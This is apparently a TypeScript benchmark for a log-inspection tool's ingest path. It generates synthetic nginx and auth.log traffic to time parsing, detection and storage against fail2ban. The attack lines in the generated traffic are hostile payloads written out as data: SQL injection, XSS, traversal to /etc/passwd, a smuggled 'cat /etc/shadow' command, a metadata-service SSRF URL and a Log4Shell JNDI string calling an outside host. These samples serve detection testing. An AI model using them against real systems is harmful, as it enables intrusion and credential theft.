/**
 * Ingest section of `palisade bench`: lines per second through the path of `palisade ingest` for an
 * nginx access log and an auth.log, generated on the fly from a seed (many client addresses, mostly
 * benign with a few percent attacks and scanners; sshd brute force among logins, sessions, cron and
 * sudo). Depths per log: parse only; parse + event build (id hash, raw text); + inspection of web
 * requests by the given engine; and the full path — read the file, parse, inspect, enrich (geo, ASN,
 * fingerprint, as in production), correlate and commit into a fresh SQLite file through the batched
 * writer, with the default server configuration (its engine, not `--config`). The difference between
 * depths is the per-line cost of each stage. Everything runs on the main thread (better-sqlite3 is
 * synchronous), so the figures are for one core; CPU seconds are printed beside the wall time (less
 * CPU than wall = waiting, mostly fsync). When fail2ban-regex is installed, it reads the same file
 * with its stock filter in the same run (sshd; nginx-botsearch), timed beside ours. With real logs
 * beside the corpus (`../shared/logs`), a second figure is made from them, repeated to a useful length.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { gunzipSync } from 'node:zlib';
import type { Engine } from '@palisade/engine';
import { loadConfig } from '../config/config.js';
import { mulberry32 } from '../demo/prng.js';
import { createParser, type Format } from '../ingest/formats.js';
import { LineConverter, type IngestSummary } from '../ingest/ingest.js';
import type { ParseContext } from '../ingest/parsers/types.js';
import { runIngest } from '../cli/ingest-command.js';
import { mib, round } from './stats.js';

export interface IngestBenchOptions {
  /** Lines of each generated log. Default 200,000. */
  lines?: number;
  /** Timed passes of the in-memory stages (the median is kept). Default 3. */
  runs?: number;
  /** Folder of real logs (`loghub/`, `honeynet-redhat71-httpd/`, ...); null or missing: none. */
  realLogsDir?: string | null;
  /** Lines a real log is repeated up to. Default 100,000. */
  realLines?: number;
  /** Run fail2ban-regex beside ours when installed. Default true. */
  fail2ban?: boolean;
}

/** Figures for one log. Rates are lines per second; `us_per_line` splits the full path by stage. */
export interface IngestLogResult {
  name: string;
  format: Format;
  lines: number;
  bytes: number;
  events: number;
  flagged: number;
  rejected: number;
  parse_lines_per_s: number;
  /** Parse + event build (id hash, raw text), without the engine. */
  build_lines_per_s: number;
  /** Parse + event build + inspection by the engine; null for formats without web requests. */
  inspect_lines_per_s: number | null;
  full: {
    /** First read to last commit (the summary's duration). */
    seconds: number;
    /** The whole command, with opening the store and loading the enrichment data. */
    command_s: number;
    /** CPU seconds of this process over the command: at most command_s on one thread. */
    cpu_s: number;
    lines_per_s: number;
    events_written: number;
    incidents: number;
    db_mb: number;
  };
  us_per_line: { parse: number; event_build: number; inspect: number; enrich_correlate_store: number };
  fail2ban: Fail2banResult;
}

export type Fail2banResult =
  | {
      filter: string;
      seconds: number;
      /** Start-up (interpreter, filter compilation) measured on a one-line file. */
      startup_s: number;
      lines_per_s: number;
      matched: number;
    }
  | { skipped: string };

export interface IngestBenchResult {
  note: string;
  logs: IngestLogResult[];
}

/** Where the generated lines start: a Monday, so the year-less auth stamps read back the same. */
const START_MS = Date.UTC(2026, 0, 5);
const YEAR = 2026;
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const BATCH_LINES = 1000;

type Rnd = () => number;

function random(seed: number): Rnd {
  const next = mulberry32(seed);
  return () => next() / 4294967296;
}

const pick = <T>(rnd: Rnd, xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
const int = (rnd: Rnd, lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const pad2 = (n: number): string => (n < 10 ? `0${n}` : String(n));

/** First octets of public unicast space (no private, loopback, CGNAT, link-local or documentation /8s). */
const PUBLIC_A = Array.from({ length: 223 }, (_, i) => i + 1).filter(
  (a) => ![10, 100, 127, 169, 172, 192, 198, 203].includes(a),
);

/** `n` distinct-looking public addresses, about one in twenty IPv6. */
function addressPool(rnd: Rnd, n: number): string[] {
  return Array.from({ length: n }, () =>
    rnd() < 0.05
      ? `2a0${int(rnd, 1, 9)}:${int(rnd, 0x1000, 0xffff).toString(16)}:${int(rnd, 0, 0xffff).toString(16)}::${int(rnd, 1, 0xffff).toString(16)}`
      : `${pick(rnd, PUBLIC_A)}.${int(rnd, 0, 255)}.${int(rnd, 0, 255)}.${int(rnd, 1, 254)}`,
  );
}

/** A skewed pick (a few addresses make most lines, like real traffic). */
const skewed = <T>(rnd: Rnd, xs: readonly T[]): T => xs[Math.floor(rnd() ** 3 * xs.length)]!;

function accessStamp(ms: number): string {
  const d = new Date(ms);
  return `${pad2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())} +0000`;
}

function syslogStamp(ms: number): string {
  const d = new Date(ms);
  const day = d.getUTCDate();
  return `${MONTHS[d.getUTCMonth()]} ${day < 10 ? ` ${day}` : day} ${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}`;
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
];
const WORDS = ['rain', 'jacket', 'boots', 'wool', 'socks', 'tent', 'lamp', 'blue', 'kids', 'sale', 'gift'];
const REFERERS = [
  '-',
  '-',
  'https://shop.example/',
  'https://shop.example/products',
  'https://www.google.com/',
];

/** Benign request: [method, target, status, bytes]. */
function benignRequest(rnd: Rnd): [string, string, number, number] {
  const r = rnd();
  const id = int(rnd, 1, 5000);
  if (r < 0.25)
    return [
      'GET',
      `/static/${pick(rnd, ['css/app.3f9a1c.css', 'js/app.8d2e4b.js', 'js/vendor.c01f77.js', 'fonts/inter.woff2'])}`,
      rnd() < 0.3 ? 304 : 200,
      int(rnd, 2000, 90000),
    ];
  if (r < 0.45) return ['GET', `/img/p/${id}-${pick(rnd, ['s', 'm', 'l'])}.jpg`, 200, int(rnd, 8000, 250000)];
  if (r < 0.6) return ['GET', `/product/${id}`, rnd() < 0.02 ? 404 : 200, int(rnd, 9000, 40000)];
  if (r < 0.7)
    return [
      'GET',
      `/search?q=${pick(rnd, WORDS)}+${pick(rnd, WORDS)}&page=${int(rnd, 1, 5)}`,
      200,
      int(rnd, 5000, 30000),
    ];
  if (r < 0.78) return ['GET', '/', 200, int(rnd, 12000, 15000)];
  if (r < 0.84) return ['GET', `/api/cart?session=${int(rnd, 1e6, 9e6)}`, 200, int(rnd, 100, 3000)];
  if (r < 0.88) return ['POST', '/api/cart/items', 201, int(rnd, 50, 400)];
  if (r < 0.91) return ['POST', '/login', pick(rnd, [302, 302, 302, 401]), int(rnd, 0, 800)];
  if (r < 0.94)
    return ['GET', `/blog/${pick(rnd, WORDS)}-${pick(rnd, WORDS)}-guide`, 200, int(rnd, 9000, 40000)];
  if (r < 0.97)
    return ['GET', pick(rnd, ['/favicon.ico', '/robots.txt', '/sitemap.xml']), 200, int(rnd, 100, 5000)];
  return ['GET', `/account/orders?page=${int(rnd, 1, 9)}`, pick(rnd, [200, 302]), int(rnd, 300, 20000)];
}

const ATTACK_TARGETS = [
  '/product?id=1%20UNION%20SELECT%20username,password%20FROM%20users--',
  '/search?q=%27%20OR%20%271%27%3D%271',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E',
  '/search?q=%3Csvg%20onload%3Dalert(1)%3E',
  '/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd',
  '/download?file=manual.pdf%3Bcat%20/etc/shadow',
  '/index.php?page=php://filter/convert.base64-encode/resource=index',
  '/api/fetch?url=http://169.254.169.254/latest/meta-data/iam/',
  '/search?q={{7*7}}',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
];
const SCAN_TARGETS = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/wp-admin/setup-config.php',
  '/phpmyadmin/index.php',
  '/pma/index.php',
  '/admin/config.php',
  '/cgi-bin/luci',
  '/server-status',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/actuator/health',
  '/boaform/admin/formLogin',
];
const SCANNER_UA = [
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
  'sqlmap/1.8#stable (https://sqlmap.org)',
  'python-requests/2.31.0',
  'curl/8.5.0',
  'Go-http-client/1.1',
];

/**
 * An nginx `combined` access log of `n` lines: ~97 % browsing by 20,000 clients (skewed), ~3 %
 * attacks (injection, traversal, Log4Shell in the user agent) and scanners (404 probes, login brute
 * force) from 300 addresses.
 */
export function accessLogLines(n: number, seed = 1): string[] {
  const rnd = random(seed);
  const clients = addressPool(rnd, 20_000);
  const attackers = addressPool(rnd, 300);
  const out: string[] = [];
  let ms = START_MS;
  for (let i = 0; i < n; i++) {
    ms += int(rnd, 0, 800);
    const stamp = accessStamp(ms);
    const r = rnd();
    let ip: string;
    let method: string;
    let target: string;
    let status: number;
    let bytes: number;
    let ua: string;
    let referer = '-';
    if (r < 0.97) {
      ip = skewed(rnd, clients);
      [method, target, status, bytes] = benignRequest(rnd);
      ua = pick(rnd, BROWSERS);
      referer = pick(rnd, REFERERS);
    } else {
      ip = pick(rnd, attackers);
      const a = rnd();
      if (a < 0.4) {
        [method, target, status, bytes] = ['GET', pick(rnd, SCAN_TARGETS), 404, int(rnd, 150, 600)];
        ua = pick(rnd, SCANNER_UA);
      } else if (a < 0.8) {
        [method, target, status, bytes] = [
          'GET',
          pick(rnd, ATTACK_TARGETS),
          pick(rnd, [200, 400, 403, 500]),
          int(rnd, 150, 9000),
        ];
        ua = pick(rnd, rnd() < 0.5 ? SCANNER_UA : BROWSERS);
      } else if (a < 0.95) {
        [method, target, status, bytes] = [
          'POST',
          pick(rnd, ['/login', '/wp-login.php']),
          pick(rnd, [401, 200]),
          int(rnd, 200, 900),
        ];
        ua = pick(rnd, SCANNER_UA);
      } else {
        [method, target, status, bytes] = ['GET', '/', 200, 12000];
        ua = '${jndi:ldap://45.155.205.233:1389/Exploit}';
      }
    }
    out.push(`${ip} - - [${stamp}] "${method} ${target} HTTP/1.1" ${status} ${bytes} "${referer}" "${ua}"`);
  }
  return out;
}

const BAD_USERS = [
  'admin',
  'test',
  'oracle',
  'ubuntu',
  'pi',
  'postgres',
  'git',
  'user',
  'support',
  'ftpuser',
  'guest',
  'deploy1',
];
const STAFF = ['deploy', 'alice', 'bob', 'backup'];
const COMMANDS = [
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/apt update',
  '/usr/bin/journalctl -u palisade',
  '/bin/cat /var/log/auth.log',
];

/**
 * An auth.log of `n` lines with RFC 3164 headers, mostly sshd: brute force from 2,000 addresses
 * (invalid users, failed passwords for root, preauth disconnects, PAM failures), key logins of staff
 * with their sessions, and cron and sudo sessions around them.
 */
export function authLogLines(n: number, seed = 2): string[] {
  const rnd = random(seed);
  const attackers = addressPool(rnd, 2_000);
  const offices = addressPool(rnd, 20);
  const out: string[] = [];
  let ms = START_MS;
  let pid = 20_000;
  let session = 1;
  const emit = (program: string, p: number, msg: string) => {
    ms += int(rnd, 0, 400);
    out.push(`${syslogStamp(ms)} web1 ${program}[${p}]: ${msg}`);
  };
  while (out.length < n) {
    const r = rnd();
    const p = pid++;
    const port = int(rnd, 1024, 65535);
    if (r < 0.45) {
      const ip = skewed(rnd, attackers);
      const user = pick(rnd, BAD_USERS);
      emit('sshd', p, `Invalid user ${user} from ${ip} port ${port}`);
      emit('sshd', p, `pam_unix(sshd:auth): check pass; user unknown`);
      emit('sshd', p, `Failed password for invalid user ${user} from ${ip} port ${port} ssh2`);
      emit('sshd', p, `Received disconnect from ${ip} port ${port}:11: Bye Bye [preauth]`);
      emit('sshd', p, `Disconnected from invalid user ${user} ${ip} port ${port} [preauth]`);
    } else if (r < 0.8) {
      const ip = skewed(rnd, attackers);
      emit(
        'sshd',
        p,
        `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=root`,
      );
      const tries = int(rnd, 1, 6);
      for (let t = 0; t < tries; t++)
        emit('sshd', p, `Failed password for root from ${ip} port ${port} ssh2`);
      if (tries === 6)
        emit(
          'sshd',
          p,
          `error: maximum authentication attempts exceeded for root from ${ip} port ${port} ssh2 [preauth]`,
        );
      emit('sshd', p, `Connection closed by authenticating user root ${ip} port ${port} [preauth]`);
    } else if (r < 0.9) {
      const ip = pick(rnd, offices);
      const user = pick(rnd, STAFF);
      const s = session++;
      emit(
        'sshd',
        p,
        `Accepted publickey for ${user} from ${ip} port ${port} ssh2: ED25519 SHA256:k3yF1ngerPr1ntAbCdEfGhIjKlMnOpQrStUvWxYz012`,
      );
      emit('sshd', p, `pam_unix(sshd:session): session opened for user ${user}(uid=1000) by (uid=0)`);
      emit('systemd-logind', 612, `New session ${s} of user ${user}.`);
      emit('sshd', p, `Received disconnect from ${ip} port ${port}:11: disconnected by user`);
      emit('sshd', p, `Disconnected from user ${user} ${ip} port ${port}`);
      emit('sshd', p, `pam_unix(sshd:session): session closed for user ${user}`);
      emit('systemd-logind', 612, `Removed session ${s}.`);
    } else if (r < 0.97) {
      emit('CRON', p, 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)');
      emit('CRON', p, 'pam_unix(cron:session): session closed for user root');
    } else {
      const user = pick(rnd, ['alice', 'bob']);
      emit(
        'sudo',
        p,
        `    ${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${pick(rnd, COMMANDS)}`,
      );
      emit('sudo', p, `pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=1000)`);
      emit('sudo', p, 'pam_unix(sudo:session): session closed for user root');
    }
  }
  out.length = n;
  return out;
}

/** Real logs under `dir` by format: access (honeynet, ocatak scanners), auth (loghub OpenSSH, Linux). */
function realLogs(dir: string): Array<{ name: string; format: Format; lines: string[] }> {
  const read = (p: string): string[] => {
    const buf = readFileSync(p);
    const text = (p.endsWith('.gz') ? gunzipSync(buf) : buf).toString('utf8');
    return text.split('\n').filter((l) => l.length > 0);
  };
  const gather = (sub: string, keep: (f: string) => boolean): string[] => {
    const folder = join(dir, sub);
    if (!existsSync(folder)) return [];
    return readdirSorted(folder)
      .filter(keep)
      .flatMap((f) => read(join(folder, f)));
  };
  const out: Array<{ name: string; format: Format; lines: string[] }> = [];
  const access = [
    ...gather('honeynet-redhat71-httpd', (f) => f.startsWith('access_log')),
    // ocatak lines are wrapped in an extra pair of quotes (see its SOURCE.txt): unwrapped.
    ...gather('apache-scanner-scans-ocatak', (f) => f.endsWith('.txt') || f.endsWith('.txt.gz')).map((l) =>
      l.startsWith('"') && l.endsWith('"') ? l.slice(1, -1) : l,
    ),
  ];
  if (access.length > 0)
    out.push({ name: 'real access (honeynet + ocatak scanners)', format: 'access', lines: access });
  const auth = [
    ...gather('loghub/OpenSSH', (f) => f.endsWith('.log')),
    ...gather('loghub/Linux', (f) => f.endsWith('.log')),
  ];
  if (auth.length > 0) out.push({ name: 'real auth (loghub OpenSSH + Linux)', format: 'auth', lines: auth });
  return out;
}

/** Sorted, so the repeated content (and so the figure) is the same from run to run. */
function readdirSorted(dir: string): string[] {
  return readdirSync(dir).sort();
}

const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;

function parseContext(): ParseContext {
  return { now: START_MS, year: YEAR, timeZone: 'UTC' };
}

/** Median ms of `runs` passes of `pass` (one untimed warm-up pass first). */
function timed(runs: number, pass: () => void): number {
  pass();
  const ms: number[] = [];
  for (let k = 0; k < runs; k++) {
    const t0 = performance.now();
    pass();
    ms.push(performance.now() - t0);
  }
  return median(ms);
}

function parseOnly(format: Format, lines: readonly string[]): void {
  const p = createParser(format, parseContext());
  for (let i = 0; i < lines.length; i++) p.push(lines[i]!, i + 1);
  p.end();
}

function convertAll(format: Format, lines: readonly string[], file: string, engine?: Engine): IngestSummary {
  const conv = new LineConverter({
    format,
    parse: parseContext(),
    event: { source: { name: `log:${file}`, type: 'log' }, file, ...(engine ? { engine } : {}) },
  });
  for (let i = 0; i < lines.length; i += BATCH_LINES) conv.convert(lines.slice(i, i + BATCH_LINES), i + 1);
  conv.end();
  return conv.summary;
}

/**
 * The real `palisade ingest FILE --json` (runIngest, default configuration) on a fresh database.
 * Lines/s come from the summary's `duration_ms` (first read to last commit); the command's own wall
 * and CPU time also hold opening the store and loading the GeoIP/ASN tables.
 */
async function fullPath(format: Format, file: string, dir: string) {
  const config = loadConfig({ cwd: dir, env: {}, flags: { db: `${file}.db` } });
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer, _enc, cb) {
      chunks.push(chunk);
      cb();
    },
  });
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  await runIngest({ config, files: [file], format, json: true, year: YEAR, out });
  const commandS = (performance.now() - t0) / 1000;
  const cpu = process.cpuUsage(cpu0);
  const summary = JSON.parse(Buffer.concat(chunks).toString('utf8')) as IngestSummary;
  const size = (f: string) => (existsSync(f) ? statSync(f).size : 0);
  return {
    summary,
    seconds: round(summary.duration_ms / 1000, 2),
    command_s: round(commandS, 2),
    cpu_s: round((cpu.user + cpu.system) / 1e6, 2),
    lines_per_s: Math.round((summary.lines * 1000) / Math.max(1, summary.duration_ms)),
    events_written: summary.events - summary.refused,
    incidents: Object.values(summary.incidents_by_type).reduce((a, b) => a + b, 0),
    db_mb: mib(size(config.db) + size(`${config.db}-wal`)),
  };
}

/** The stock fail2ban filter for a format. */
const FAIL2BAN_FILTER: Record<Format, string | undefined> = {
  access: 'nginx-botsearch',
  auth: 'sshd',
  auditd: undefined,
  jsonl: undefined,
};

function fail2banRegex(file: string, filter: string): { seconds: number; stdout: string } {
  const t0 = performance.now();
  // -r: no DNS; --print-no-missed: only the summary is printed, not 200k missed lines.
  const r = spawnSync('fail2ban-regex', ['-r', '--print-no-missed', '--print-no-ignored', file, filter], {
    encoding: 'utf8',
    maxBuffer: 64 << 20,
    timeout: 900_000,
  });
  const seconds = (performance.now() - t0) / 1000;
  if (r.error) throw r.error;
  if (r.status !== 0) throw new Error(`fail2ban-regex exited with ${r.status}: ${r.stderr.slice(0, 300)}`);
  return { seconds, stdout: r.stdout };
}

function fail2banInstalled(): boolean {
  const r = spawnSync('fail2ban-regex', ['--version'], { encoding: 'utf8' });
  return r.error === undefined && r.status === 0;
}

function runFail2ban(
  format: Format,
  file: string,
  lines: readonly string[],
  dir: string,
  enabled: boolean,
): Fail2banResult {
  const filter = FAIL2BAN_FILTER[format];
  if (filter === undefined) return { skipped: `no stock fail2ban filter for ${format}` };
  if (!enabled) return { skipped: 'disabled' };
  if (!fail2banInstalled())
    return { skipped: 'fail2ban-regex not installed (Debian: apt-get install -y fail2ban)' };
  const one = join(dir, `${format}-one.log`);
  writeFileSync(one, `${lines[0] ?? ''}\n`);
  const startup = fail2banRegex(one, filter).seconds;
  const run = fail2banRegex(file, filter);
  const m = /Lines: (\d+) lines, (\d+) ignored, (\d+) matched/.exec(run.stdout);
  return {
    filter,
    seconds: round(run.seconds, 2),
    startup_s: round(startup, 2),
    lines_per_s: Math.round(lines.length / run.seconds),
    matched: m ? Number(m[3]) : -1,
  };
}

const perLineUs = (linesPerS: number): number => (linesPerS > 0 ? 1e6 / linesPerS : 0);

async function benchLog(
  engine: Engine,
  name: string,
  format: Format,
  lines: readonly string[],
  dir: string,
  opts: { runs: number; fail2ban: boolean },
): Promise<IngestLogResult> {
  const file = join(dir, `${format}-${name.replace(/\W+/g, '-')}.log`);
  writeFileSync(file, `${lines.join('\n')}\n`);
  const n = lines.length;
  const rate = (ms: number) => Math.round((n * 1000) / ms);
  const parse = rate(timed(opts.runs, () => parseOnly(format, lines)));
  const build = rate(timed(opts.runs, () => convertAll(format, lines, file)));
  // Only web requests meet the engine: for other formats the inspect stage is the build stage.
  const web = format === 'access';
  let summary: IngestSummary | undefined;
  const inspect = web
    ? rate(timed(opts.runs, () => (summary = convertAll(format, lines, file, engine))))
    : build;
  summary ??= convertAll(format, lines, file);
  const full = await fullPath(format, file, dir);
  const fail2ban = runFail2ban(format, file, lines, dir, opts.fail2ban);
  const us = (x: number) => round(x, 2);
  return {
    name,
    format,
    lines: n,
    bytes: statSync(file).size,
    events: summary!.events,
    flagged: summary!.flagged,
    rejected: summary!.rejected,
    parse_lines_per_s: parse,
    build_lines_per_s: build,
    inspect_lines_per_s: web ? inspect : null,
    full: {
      seconds: full.seconds,
      command_s: full.command_s,
      cpu_s: full.cpu_s,
      lines_per_s: full.lines_per_s,
      events_written: full.events_written,
      incidents: full.incidents,
      db_mb: full.db_mb,
    },
    us_per_line: {
      parse: us(perLineUs(parse)),
      event_build: us(perLineUs(build) - perLineUs(parse)),
      inspect: us(perLineUs(inspect) - perLineUs(build)),
      enrich_correlate_store: us(perLineUs(full.lines_per_s) - perLineUs(inspect)),
    },
    fail2ban,
  };
}

/** Generated logs first, then the real ones when `realLogsDir` holds some. */
export async function benchIngest(engine: Engine, opts: IngestBenchOptions = {}): Promise<IngestBenchResult> {
  const n = opts.lines ?? 200_000;
  const runs = opts.runs ?? 3;
  const fail2ban = opts.fail2ban !== false;
  const dir = mkdtempSync(join(tmpdir(), 'palisade-bench-ingest-'));
  try {
    const logs: IngestLogResult[] = [];
    const o = { runs, fail2ban };
    logs.push(await benchLog(engine, 'nginx access (generated)', 'access', accessLogLines(n), dir, o));
    logs.push(await benchLog(engine, 'auth.log (generated)', 'auth', authLogLines(n), dir, o));
    if (opts.realLogsDir && existsSync(opts.realLogsDir)) {
      const target = opts.realLines ?? Math.min(n, 100_000);
      for (const real of realLogs(opts.realLogsDir)) {
        // Repeated (or cut) to `target` lines so short samples give a steady figure.
        const times = Math.ceil(target / real.lines.length);
        const lines = Array.from({ length: times }, () => real.lines)
          .flat()
          .slice(0, target);
        const label = times > 1 ? `${real.name}, repeated` : real.name;
        logs.push(await benchLog(engine, label, real.format, lines, dir, o));
      }
    }
    return {
      note: 'one thread: parsing, inspection, enrichment, correlation and SQLite (synchronous) all run on the main thread; full = `palisade ingest FILE` into a fresh SQLite file (WAL, synchronous=FULL) in the temp dir',
      logs,
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const fmt = (x: number): string => x.toLocaleString('en');

export function formatIngest(r: IngestBenchResult): string {
  const rows: string[] = [r.note];
  for (const l of r.logs) {
    const u = l.us_per_line;
    rows.push(
      `\n${l.name}: ${fmt(l.lines)} lines, ${mib(l.bytes)} MB, ${fmt(l.events)} events, ${fmt(l.flagged)} flagged, ${fmt(l.rejected)} rejected`,
      `  parse only                         ${fmt(l.parse_lines_per_s).padStart(10)} lines/s`,
      `  parse + event build                ${fmt(l.build_lines_per_s).padStart(10)} lines/s`,
      l.inspect_lines_per_s === null
        ? '  parse + inspect + event build      (no web requests: as above)'
        : `  parse + inspect + event build      ${fmt(l.inspect_lines_per_s).padStart(10)} lines/s`,
      `  full: + enrich, correlate, store   ${fmt(l.full.lines_per_s).padStart(10)} lines/s  (${l.full.seconds} s; command ${l.full.command_s} s wall, ${l.full.cpu_s} s CPU; ${fmt(l.full.events_written)} rows, ${l.full.incidents} incidents, ${l.full.db_mb} MB)`,
      `  µs per line: parse ${u.parse}, event build ${u.event_build}, inspect ${u.inspect}, enrich+correlate+store ${u.enrich_correlate_store}`,
      'skipped' in l.fail2ban
        ? `  fail2ban-regex: skipped (${l.fail2ban.skipped})`
        : `  fail2ban-regex ${l.fail2ban.filter.padEnd(19)} ${fmt(l.fail2ban.lines_per_s).padStart(10)} lines/s  (${l.fail2ban.seconds} s wall incl. ${l.fail2ban.startup_s} s start-up; ${fmt(l.fail2ban.matched)} matched)`,
    );
  }
  return rows.join('\n');
}
